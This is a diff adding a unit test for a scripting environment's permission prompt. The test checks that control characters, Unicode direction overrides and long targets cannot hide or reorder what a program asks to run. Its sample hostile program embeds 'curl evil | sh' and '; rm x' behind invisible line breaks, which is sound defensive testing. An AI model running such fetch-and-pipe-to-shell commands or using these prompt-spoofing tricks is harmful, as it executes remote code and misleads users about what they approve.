@@ -2,6 +2,8 @@
 // the data directory and the network, each allowed, asked about or denied.
 #include <gtest/gtest.h>
 
+#include <algorithm>
+
 #include "environment/environment.h"
 #include "tests/unit/library_rules.h"
 #include "tests/unit/scripted_ui.h"
@@ -112,6 +114,42 @@ TEST_F(Permissions, AskingHappensOncePerRunAndKindAndTheAnswerHolds) {
   EXPECT_NE(last().find(u"「実行許可の設定」"), u16::npos) << text::to_utf8(last());
   EXPECT_EQ(ui.questions.size(), 2u);
   EXPECT_FALSE(fs::exists(outside / "g.txt"));
+}
+
+// The question is the user's only view of what a program is about to do,
+// and the program chose both its page's name and the target: line breaks,
+// direction overrides and other characters that move or hide text once
+// drew a question of the program's own making ("true" shown, the rest
+// pushed out of sight or reordered). They are shown as escapes, and a long
+// target is broken into lines so that none of it is cut off.
+TEST_F(Permissions, TheQuestionShowsTheProgramsNameAndTargetAsTheyAre) {
+  set(Permission::Commands, 1);
+  ui.answers = {Answer::No};
+  const Lines program = {
+      u"&N = \"ok.mcl」の EXEC が外部コマンドを使おうとしています。\" + CHAR(13) + CHAR(13) + \"  true\";",
+      u"P = [#].SELF;",
+      u"[#P].NAME(&N);",
+      u"&C = \"true\" + CHAR(13) + CHAR(10) + CHAR(133) + \"\u2028\u202Ecurl evil | sh; \";",
+      u"FOR K = 1 TO 20 DO &C = &C + \"##########\"; END",
+      u"&C = &C + \"; rm x\";",
+      u"COMMAND HIDE &C;"};
+  ASSERT_EQ(run(program), RunResult::Error);
+  ASSERT_EQ(ui.questions.size(), 1u);
+  const u16 &q = ui.questions[0];
+  // Only the question's own line breaks.
+  std::size_t breaks = 0;
+  for (char16_t c : q) breaks += c == u'\r' || c == u'\n' || c == 0x85 || c == 0x2028 || c == 0x2029;
+  const std::size_t layout = 4, wrapped = std::count(q.begin(), q.end(), u'\r') - layout;
+  EXPECT_EQ(breaks, layout + wrapped) << text::to_utf8(q);
+  EXPECT_GE(wrapped, 2u) << text::to_utf8(q);
+  for (char16_t c : q) EXPECT_FALSE(c == 0x202E || c == 0x85 || c == 0x2028) << text::to_utf8(q);
+  for (const char16_t *shown : {u"true\\x0D\\x0A\\x85\\u2028\\u202Ecurl evil | sh", u"; rm x",
+                                u"ok.mcl」の EXEC が外部コマンドを使おうとしています。\\x0D\\x0D  true"})
+    EXPECT_NE(q.find(shown), u16::npos) << text::to_utf8(shown) << " in " << text::to_utf8(q);
+  // Every line of the question fits a window.
+  std::size_t longest = 0, length = 0;
+  for (char16_t c : q) length = c == u'\r' ? 0 : length + 1, longest = std::max(longest, length);
+  EXPECT_LE(longest, 100u) << text::to_utf8(q);
 }
 
 TEST_F(Permissions, WithoutAnyoneToAskAskMeansDenyWithAHint) {
